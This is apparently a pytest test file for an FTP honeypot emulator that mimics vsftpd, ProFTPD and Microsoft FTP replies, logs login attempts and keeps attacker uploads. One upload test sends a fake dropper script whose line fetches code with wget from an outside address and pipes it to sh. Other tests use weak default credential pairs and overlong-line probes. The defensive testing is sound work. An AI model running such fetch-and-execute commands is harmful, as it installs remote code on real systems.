"""The FTP emulator on loopback sockets, driven by ftplib and by the Debian `ftp` client (tnftp)."""

from __future__ import annotations

import asyncio
import ftplib
import hashlib
import io
import os
import socket
import stat
import subprocess
from pathlib import Path

import pytest
from loopback import ServiceServer, needs

from dynapot.services.contract import FIELD_LIMIT, ConnectionInfo
from dynapot.services.dataports import KernelDataPorts
from dynapot.services.ftp import FTPUSERS, FileTree, FtpConfig, FtpSession, OpenPassive, make_handler
from dynapot.services.logins import COMMON_PASSWORDS, COMMON_USERS, weak_pairs
from dynapot.services.uploads import UploadStore

pytestmark = pytest.mark.timeout(30)

needs_ftp_client = needs("ftp", "the ftp client")


class Server(ServiceServer):
    """The FTP handler on a loopback port; each connection gets its own kernel data ports."""

    def __init__(
        self,
        config: FtpConfig,
        *,
        dst: str = "198.18.0.20",
        personality: str | None = "Linux 5.4",
        product: str | None = None,
        version: str | None = None,
        data_ports: bool = True,
    ) -> None:
        def connection(peer: tuple[str, int]) -> ConnectionInfo:
            ports = KernelDataPorts("127.0.0.1") if data_ports else None
            return ConnectionInfo("tcp", peer[0], peer[1], dst, 21, personality, "t", product, version, ports)

        super().__init__(make_handler(config), connection)

    def client(self) -> ftplib.FTP:
        client = ftplib.FTP()
        client.connect("127.0.0.1", self.port, timeout=5)
        return client


@pytest.fixture
def config(tmp_path: Path) -> FtpConfig:
    return FtpConfig(
        upload_dir=tmp_path / "uploads",
        fail_delay=0.0,
        data_timeout=2.0,
        anonymous=True,
        accept=frozenset({("admin", "123456")}),
    )


@pytest.fixture
def server(config: FtpConfig):
    with Server(config) as server:
        yield server


def info(**kw) -> ConnectionInfo:
    values = {"proto": "tcp", "src": "198.18.0.3", "sport": 40000, "dst": "198.18.0.20", "dport": 21}
    values |= {"personality": "Linux 5.4", "template": "t"} | kw
    return ConnectionInfo(**values)


# -- pure session -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("personality", "product", "version", "greeting"),
    [
        ("Linux 5.4", "vsftpd", "3.0.5", "220 (vsFTPd 3.0.5)"),
        ("Linux 5.4", None, None, "220 (vsFTPd 3.0.3)"),
        ("Linux 5.4", "ProFTPD", None, "220 ProFTPD Server (srv-{h}) [198.18.0.20]"),
        ("Linux 5.4", "ProFTPD", "1.3.5e", "220 ProFTPD 1.3.5e Server (srv-{h}) [198.18.0.20]"),
        ("Microsoft Windows Server 2012 R2", None, None, "220 Microsoft FTP Service"),
        ("Microsoft Windows 7 SP1", "Microsoft ftpd", None, "220 Microsoft FTP Service"),
        # An odd version string is not echoed into the banner.
        ("Linux 5.4", "vsftpd", "3.0.5\r\n230 x", "220 (vsFTPd 3.0.3)"),
    ],
)
def test_greeting_fits_product_and_os(personality, product, version, greeting) -> None:
    session = FtpSession(info(personality=personality, product=product, version=version))
    host = session.info.identity.hostname.removeprefix("srv-")
    assert session.greeting().lines == [greeting.format(h=host)]


# Anonymous FTP on, as a deployment that wants uploads sets it (vsftpd's own default is off).
ANON = FtpConfig(anonymous=True, fail_delay=0)


def test_login_policy_and_commands_before_login() -> None:
    session = FtpSession(info(), FtpConfig(fail_delay=0.5, accept=frozenset({("admin", "admin1")})))
    assert session.command(b"LIST").lines == ["530 Please login with USER and PASS."]
    assert session.command(b"PASS x").lines == ["503 Login with USER first."]
    assert session.command(b"USER admin").lines == ["331 Please specify the password."]
    bad = session.command(b"PASS hunter2")
    assert bad.lines == ["530 Login incorrect."] and bad.delay == 0.5 and not bad.close
    assert (
        "login",
        "admin:hunter2",
        {"user": "admin", "password": "hunter2", "accepted": False},
    ) in bad.events
    assert not any(e[0] == "command" and "hunter2" in (e[1] or "") for e in bad.events)
    session.command(b"USER admin")
    good = session.command(b"PASS admin1")
    assert good.lines == ["230 Login successful."] and session.logged_in
    assert session.command(b"PWD").lines == ['257 "/home/admin" is the current directory']
    assert session.command(b"SYST").lines == ["215 UNIX Type: L8"]
    assert session.command(b"USER admin").lines == ["530 Can't change to another user."]


def test_weak_policy_takes_a_few_pairs_of_its_own_per_host() -> None:
    hosts = [info(dst=f"198.18.0.{n}") for n in range(20, 30)]
    pairs = [weak_pairs(h.identity, "ftp") for h in hosts]
    assert len(set(pairs)) > 5  # hosts differ
    assert pairs[0] == weak_pairs(info(dst="198.18.0.20").identity, "ftp")  # and keep theirs
    for pair_set in pairs:
        assert 2 <= len(pair_set) <= 4
        assert all(user in COMMON_USERS and user not in FTPUSERS for user, _ in pair_set)
    user, password = sorted(pairs[0])[0]
    session = FtpSession(hosts[0], FtpConfig(fail_delay=0))  # "weak" is the default
    session.command(b"USER " + user.encode())
    assert session.command(b"PASS " + password.encode()).lines == ["230 Login successful."]
    other = next(p for p in COMMON_PASSWORDS if (user, p) not in pairs[0])
    session = FtpSession(hosts[0], FtpConfig(fail_delay=0))
    session.command(b"USER " + user.encode())
    assert session.command(b"PASS " + other.encode()).lines == ["530 Login incorrect."]


@pytest.mark.parametrize(
    ("user", "password", "config", "accepted"),
    [
        # As Debian's vsftpd: no anonymous FTP, root never (ftpusers), random pairs refused.
        ("anonymous", "probe@example.com", FtpConfig(), False),
        ("ftp", "ftp", FtpConfig(), False),
        ("root", "toor", FtpConfig(accept="any"), False),
        ("Kx7q", "v9!Lw2", FtpConfig(), False),
        ("Kx7q", "v9!Lw2", FtpConfig(accept="any"), True),
        ("admin", "admin", FtpConfig(accept="none"), False),
        ("anonymous", "x", FtpConfig(accept="none", anonymous=True), True),
    ],
)
def test_login_policies(user: str, password: str, config: FtpConfig, accepted: bool) -> None:
    session = FtpSession(info(), config)
    assert session.command(f"USER {user}".encode()).lines == ["331 Please specify the password."]
    reply = session.command(f"PASS {password}".encode())
    assert session.logged_in is accepted
    assert reply.lines == (["230 Login successful."] if accepted else ["530 Login incorrect."])


def test_only_vsftpd_hangs_up_on_an_overlong_line() -> None:
    line = b"USER " + b"A" * 5000
    vsftpd = FtpSession(info(), ANON).command(line, overlong=True)
    assert vsftpd.lines == ["500 Input line too long."] and vsftpd.close
    proftpd = FtpSession(info(product="ProFTPD"), ANON).command(line[:4095], overlong=True)
    assert proftpd.lines[0].startswith("331 ") and not proftpd.close  # cut, and on it goes


def test_vsftpd_answers_a_failed_login_after_its_own_delay() -> None:
    session = FtpSession(info(), FtpConfig())  # fail_delay None: the imitated server's
    delays = []
    for _ in range(3):
        session.command(b"USER nosuchuser")
        delays.append(session.command(b"PASS x").delay)
    assert all(2.5 <= d <= 3.5 for d in delays)  # delay_failed_login and pam_unix's, as recorded


def test_three_failed_logins_hang_up() -> None:
    session = FtpSession(info(), FtpConfig(fail_delay=0))
    replies = []
    for password in (b"a", b"b", b"c"):
        session.command(b"USER admin")
        replies.append(session.command(b"PASS " + password))
    assert [r.close for r in replies] == [False, False, True]


def test_directory_commands_and_unknown_ones() -> None:
    session = FtpSession(info(data_ports=KernelDataPorts()), ANON)
    session.command(b"USER anonymous")
    assert session.command(b"PASS guest@").lines == ["230 Login successful."]
    assert session.command(b"CWD pub").lines == ["250 Directory successfully changed."]
    assert session.command(b"PWD").lines == ['257 "/pub" is the current directory']
    assert session.command(b"CWD /nonexistent").lines == ["550 Failed to change directory."]
    assert session.command(b"CDUP").lines == ["250 Directory successfully changed."]
    assert session.command(b"CWD ../../..").lines == ["250 Directory successfully changed."]
    assert session.cwd == "/"  # never above the root
    assert session.command(b"TYPE I").lines == ["200 Switching to Binary mode."]
    assert session.command(b"TYPE X").lines == ["500 Unrecognised TYPE command."]
    assert session.command(b"XYZZY now").lines == ["500 Unknown command."]
    assert session.command(b"ACCT x").lines == ["502 ACCT not implemented."]
    assert session.command(b"DELE pub/README").lines == ["550 Permission denied."]
    assert session.command(b"LIST").lines == ["425 Use PORT or PASV first."]
    assert session.command(b"NOOP").lines == ["200 NOOP ok."]
    assert session.command(b"QUIT").close


def test_port_only_back_to_the_client() -> None:
    session = FtpSession(info(data_ports=KernelDataPorts()), ANON)
    session.command(b"USER ftp")
    session.command(b"PASS x")
    assert session.command(b"PORT 10,0,0,1,200,10").lines == ["500 Illegal PORT command."]
    assert session.command(b"PORT 198,18,0,3,0,22").lines == ["500 Illegal PORT command."]  # privileged
    assert session.command(b"PORT 198,18,0,3,999,1").lines == ["500 Illegal PORT command."]
    assert session.command(b"PORT garbage").lines == ["500 Illegal PORT command."]
    assert session.active is None
    ok = session.command(b"PORT 198,18,0,3,200,10")
    assert ok.lines == ["200 PORT command successful. Consider using PASV."]
    assert session.active == ("198.18.0.3", 200 * 256 + 10)
    assert session.command(b"EPRT |1|10.9.9.9|5000|").lines == ["500 Illegal EPRT command."]
    assert session.command(b"EPRT |1|198.18.0.3|5000|").lines[0].startswith("200 EPRT")
    assert session.command(b"PASV").action == OpenPassive(extended=False)
    assert session.passive_ready(50000).lines == ["227 Entering Passive Mode (198,18,0,20,195,80)."]


def test_without_data_ports_transfers_are_refused() -> None:
    session = FtpSession(info(data_ports=None), ANON)
    session.command(b"USER anonymous")
    session.command(b"PASS x")
    assert session.command(b"PASV").lines == ["425 Can't open data connection."]
    assert session.command(b"EPSV").lines == ["425 Can't open data connection."]
    assert session.command(b"PORT 198,18,0,3,200,10").lines == ["425 Can't open data connection."]
    assert session.command(b"LIST").lines == ["425 Can't open data connection."]


def test_commands_per_connection_are_capped() -> None:
    session = FtpSession(info(), FtpConfig(max_commands=5))
    replies = [session.command(b"NOOP") for _ in range(6)]
    assert [r.close for r in replies] == [False] * 5 + [True]
    assert replies[-1].lines[0].startswith("421")


def test_hosts_are_not_clones() -> None:
    trees = [FileTree(seed, "srv-x", False, None) for seed in (1, 2, 3, 4)]
    listings = {tuple(sorted(t.get("/pub").entries())) for t in trees}
    assert len(listings) > 1
    again = FileTree(1, "srv-x", False, None)
    assert sorted(again.get("/pub").entries()) == sorted(trees[0].get("/pub").entries())


def test_dialects_word_replies_their_own_way() -> None:
    proftpd = FtpSession(info(product="ProFTPD"))
    assert proftpd.command(b"USER bob").lines == ["331 Password required for bob"]
    iis = FtpSession(info(personality="Microsoft Windows Server 2016"), ANON)
    iis.command(b"USER anonymous")
    assert iis.command(b"PASS x").lines == ["230 User logged in."]
    assert iis.command(b"SYST").lines == ["215 Windows_NT"]
    assert iis.command(b"FOO bar").lines == ["500 'FOO bar': command not understood"]


# -- real clients on loopback ---------------------------------------------------------------------


def test_ftplib_anonymous_passive_session(server: Server) -> None:
    client = server.client()
    assert client.getwelcome() == "220 (vsFTPd 3.0.3)"
    assert client.login().startswith("230")
    assert client.pwd() == "/"
    assert client.sendcmd("SYST") == "215 UNIX Type: L8"
    # The passive address is the virtual host's, not the socket's (ftplib ignores it and uses the peer).
    assert client.sendcmd("PASV").startswith("227 Entering Passive Mode (198,18,0,20,")
    top: list[str] = []
    client.retrlines("LIST", top.append)
    assert len(top) >= 1 and top[-1].startswith("drwxr-xr-x") and top[-1].endswith(" pub")
    client.cwd("pub")
    names = client.nlst()
    assert "README" in names
    listing: list[str] = []
    client.retrlines("LIST", listing.append)
    sizes = {line.split()[-1]: int(line.split()[4]) for line in listing}
    readme = io.BytesIO()
    client.retrbinary("RETR README", readme.write)
    assert b"FTP archive" in readme.getvalue() and len(readme.getvalue()) == sizes["README"]
    other = next(n for n in names if n != "README")
    blob = io.BytesIO()
    client.retrbinary(f"RETR {other}", blob.write)
    assert len(blob.getvalue()) == sizes[other] == client.size(other)
    with pytest.raises(ftplib.error_perm, match="550"):
        client.retrbinary("RETR nothing-here", io.BytesIO().write)
    assert client.quit().startswith("221")
    logins = server.kinds("login")
    assert logins[0][2]["user"] == "anonymous" and logins[0][2]["accepted"] is True
    assert ("command", "RETR README", None) in server.reports


def test_active_mode_upload_is_kept(server: Server, config: FtpConfig) -> None:
    payload = b"#!/bin/sh\nwget http://198.51.100.7/x -O- | sh\n" * 100
    client = server.client()
    client.login("admin", "123456")
    client.set_pasv(False)
    assert client.pwd() == "/home/admin"
    client.storbinary("STOR dropper.sh", io.BytesIO(payload))
    digest = hashlib.sha256(payload).hexdigest()
    kept = config.upload_dir / digest
    assert kept.read_bytes() == payload
    assert stat.S_IMODE(config.upload_dir.stat().st_mode) == 0o700
    upload = server.kinds("upload")[0]
    assert upload[1] == "dropper.sh"
    assert upload[2] == {
        "name": "dropper.sh",
        "path": "/home/admin/dropper.sh",
        "size": len(payload),
        "sha256": digest,
        "truncated": False,
        "stored": True,
        "duplicate": False,
        "dropped": None,
    }
    listing: list[str] = []
    client.retrlines("LIST", listing.append)
    assert any(line.endswith(" dropper.sh") and f" {len(payload)} " in line for line in listing)
    # What attackers leave is never served back.
    with pytest.raises(ftplib.error_perm, match="550"):
        client.retrbinary("RETR dropper.sh", io.BytesIO().write)
    client.quit()


def test_upload_over_the_cap_is_truncated(tmp_path: Path) -> None:
    config = FtpConfig(
        upload_dir=tmp_path / "up", fail_delay=0, anonymous=True, max_upload=1000, data_timeout=2
    )
    server = Server(config)
    try:
        client = server.client()
        client.login()
        client.cwd("pub")
        with pytest.raises(ftplib.error_temp, match="451"):
            client.storbinary("STOR big.bin", io.BytesIO(b"x" * 50_000))
        assert client.voidcmd("NOOP").startswith("200")  # the session goes on
        client.close()
    finally:
        server.close()
    upload = server.kinds("upload")[0][2]
    assert upload["truncated"] is True and upload["size"] == 1000
    assert (config.upload_dir / upload["sha256"]).stat().st_size == 1000


def test_upload_reported_when_it_cannot_be_kept(tmp_path: Path) -> None:
    blocked = tmp_path / "not-a-directory"
    blocked.write_text("")
    server = Server(FtpConfig(upload_dir=blocked / "uploads", fail_delay=0, anonymous=True))
    try:
        client = server.client()
        client.login()
        assert client.storbinary("STOR x.bin", io.BytesIO(b"abc")).startswith("226")
        client.quit()
    finally:
        server.close()
    upload = server.kinds("upload")[0][2]
    assert upload["stored"] is False and upload["sha256"] == hashlib.sha256(b"abc").hexdigest()


def test_uploads_are_kept_once_and_within_the_sources_quota(tmp_path: Path) -> None:
    store = UploadStore(tmp_path / "up", max_file=100_000, per_source=2 * 40_960)
    first, second = os.urandom(40_000), os.urandom(40_000)
    with Server(FtpConfig(uploads=store, fail_delay=0, data_timeout=2, anonymous=True)) as server:
        client = server.client()
        client.login()
        client.cwd("pub")
        for name, payload in (("a", first), ("again", first), ("b", second), ("c", os.urandom(40_000))):
            # Answered as a kept file would be, kept or not: the attacker learns nothing of quotas.
            assert client.storbinary(f"STOR {name}", io.BytesIO(payload)).startswith("226")
        # The same content from someone else's quota is still only the one file.
        assert client.storbinary("STOR b2", io.BytesIO(second)).startswith("226")
        client.quit()
    uploads = {event[1]: event[2] for event in server.kinds("upload")}
    assert uploads["a"]["stored"] is True and uploads["a"]["duplicate"] is False
    assert uploads["again"]["stored"] is True and uploads["again"]["duplicate"] is True
    assert uploads["b"]["stored"] is True and uploads["b2"]["duplicate"] is True
    refused = uploads["c"]
    assert refused["stored"] is False and refused["dropped"] == "source quota"
    assert refused["size"] == 40_000 and len(refused["sha256"]) == 64  # hashed all the same
    kept = sorted(p.name for p in (tmp_path / "up").iterdir())
    assert kept == sorted(hashlib.sha256(p).hexdigest() for p in (first, second))
    assert store.counters["duplicates"] == 2 and store.counters["not kept: source quota"] == 1


def test_epsv_and_windows_listing(tmp_path: Path) -> None:
    server = Server(
        FtpConfig(upload_dir=tmp_path, fail_delay=0, anonymous=True),
        personality="Microsoft Windows Server 2012 R2",
    )
    try:
        client = server.client()
        assert client.getwelcome() == "220 Microsoft FTP Service"
        client.login()
        assert client.sendcmd("SYST") == "215 Windows_NT"
        reply = client.sendcmd("EPSV")
        port = int(reply.split("|||")[1].split("|")[0])
        with socket.create_connection(("127.0.0.1", port), timeout=5) as data:
            assert client.sendcmd("LIST").startswith("125")
            listing = b""
            while chunk := data.recv(4096):
                listing += chunk
        assert client.voidresp().startswith("226")
        client.quit()
    finally:
        server.close()
    lines = listing.decode().splitlines()
    assert any("<DIR>" in line and line.endswith(" aspnet_client") for line in lines)
    assert all(line[2] == "-" and line[8:10] == "  " for line in lines)  # MM-DD-YY  HH:MMAM


def test_bad_logins_are_reported_then_the_server_hangs_up(server: Server) -> None:
    client = server.client()
    for guess in ("1", "2"):
        with pytest.raises(ftplib.error_perm, match="530 Login incorrect"):
            client.login("admin", guess)
    with pytest.raises(ftplib.error_perm, match="530"):
        client.login("admin", "3")
    with pytest.raises((EOFError, OSError)):
        client.voidcmd("NOOP")
    logins = server.kinds("login")
    assert [r[1] for r in logins] == ["admin:1", "admin:2", "admin:3"]
    assert not any(r[2]["accepted"] for r in logins)


def test_pasv_nobody_connects(server: Server) -> None:
    client = server.client()
    client.login()
    client.sendcmd("PASV")
    with pytest.raises(ftplib.error_temp, match="425 Failed to establish connection"):
        client.sendcmd("LIST")
    assert client.voidcmd("NOOP").startswith("200")
    client.quit()


def test_port_elsewhere_is_refused_over_the_wire(server: Server) -> None:
    client = server.client()
    client.login()
    with pytest.raises(ftplib.error_perm, match="500 Illegal PORT command"):
        client.sendcmd("PORT 192,0,2,1,200,1")
    client.quit()


def test_no_data_ports(tmp_path: Path) -> None:
    server = Server(FtpConfig(upload_dir=tmp_path, fail_delay=0, anonymous=True), data_ports=False)
    try:
        client = server.client()
        client.login()
        with pytest.raises(ftplib.error_temp, match="425 Can't open data connection"):
            client.sendcmd("PASV")
        client.quit()
    finally:
        server.close()


def _raw(port: int) -> tuple[socket.socket, io.BufferedReader]:
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    return sock, sock.makefile("rb")


def test_garbage_and_overlong_lines_get_answers(server: Server) -> None:
    sock, lines = _raw(server.port)
    with sock, lines:
        assert lines.readline().startswith(b"220")
        sock.sendall(
            b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(64).replace(b"\n", b"") + b"\r\n"
        )
        assert lines.readline().startswith(b"530")
        sock.sendall(b"USER " + b"A" * 1000 + b"\r\n")
        assert lines.readline().startswith(b"331")
        sock.sendall(b"PASS x\r\n")
        assert lines.readline() == b"530 Login incorrect.\r\n"
        sock.sendall(b"USER anonymous\r\nPASS x\r\n")  # pipelined
        assert lines.readline().startswith(b"331")
        assert lines.readline().startswith(b"230")
        sock.sendall(b"HELP\r\n")
        help_lines = [lines.readline()]
        while not help_lines[-1].startswith(b"214 "):
            help_lines.append(lines.readline())
        assert help_lines[0] == b"214-The following commands are recognized.\r\n"
        sock.sendall(b"NOOP\r\n")
        assert lines.readline() == b"200 NOOP ok.\r\n"
        sock.sendall(b"NOOP " + b"A" * 100_000 + b"\r\n")  # vsftpd refuses the line and hangs up
        assert lines.readline() == b"500 Input line too long.\r\n"
        assert lines.readline() == b""
    bad = server.kinds("bad-request")
    assert {r[1] for r in bad} == {"unprintable command", "command line too long"}
    user = next(r for r in server.kinds("login"))
    assert len(user[2]["user"]) == FIELD_LIMIT


def test_idle_clients_are_dropped(tmp_path: Path) -> None:
    server = Server(FtpConfig(upload_dir=tmp_path, idle_timeout=0.3))
    try:
        sock, lines = _raw(server.port)
        with sock, lines:
            assert lines.readline().startswith(b"220")
            sock.sendall(b"USER ")  # a slowloris that never ends its line
            assert lines.readline() == b"421 Timeout.\r\n"
            assert lines.readline() == b""
    finally:
        server.close()


@needs_ftp_client
def test_debian_ftp_client(tmp_path: Path, config: FtpConfig) -> None:
    # The virtual host is 127.0.0.1 here: tnftp trusts the PASV address, and tests stay on loopback.
    server = Server(config, dst="127.0.0.1")
    script = "user anonymous guest@example.org\ncd pub\nls\nget README\nput upload.txt\nquit\n"
    (tmp_path / "upload.txt").write_text("owned\n")
    try:
        result = subprocess.run(
            ["ftp", "-n", "-p", "-v", "127.0.0.1", str(server.port)],
            input=script,
            capture_output=True,
            text=True,
            cwd=tmp_path,
            timeout=20,
        )
    finally:
        server.close()
    assert "230 Login successful." in result.stdout, result.stdout + result.stderr
    assert " README" in result.stdout
    assert b"FTP archive" in (tmp_path / "README").read_bytes()
    upload = server.kinds("upload")[0][2]
    assert upload["name"] == "upload.txt" and upload["size"] == 6
    assert (config.upload_dir / upload["sha256"]).read_bytes() == b"owned\n"


# -- the kernel data ports ---------------------------------------------------------------------------


def test_kernel_data_ports_take_one_connection() -> None:
    async def main() -> None:
        ports = KernelDataPorts("127.0.0.1")
        listener = await ports.listen()
        with pytest.raises(TimeoutError):
            await listener.accept(0.05)
        client_r, client_w = await asyncio.open_connection("127.0.0.1", listener.port)
        _, writer = await listener.accept(2)
        writer.write(b"data")
        await writer.drain()
        assert await client_r.readexactly(4) == b"data"
        with pytest.raises(OSError):  # the port stopped listening after the first connection
            await asyncio.open_connection("127.0.0.1", listener.port)
        listener.close()
        writer.close()
        client_w.close()
        # An unaccepted connection is closed with the listener.
        other = await ports.listen()
        late_r, late_w = await asyncio.open_connection("127.0.0.1", other.port)
        await asyncio.sleep(0.05)
        other.close()
        assert await asyncio.wait_for(late_r.read(), 2) == b""
        late_w.close()
        with pytest.raises(OSError):
            await ports.connect("127.0.0.1", listener.port, 1)

    asyncio.run(asyncio.wait_for(main(), 10))
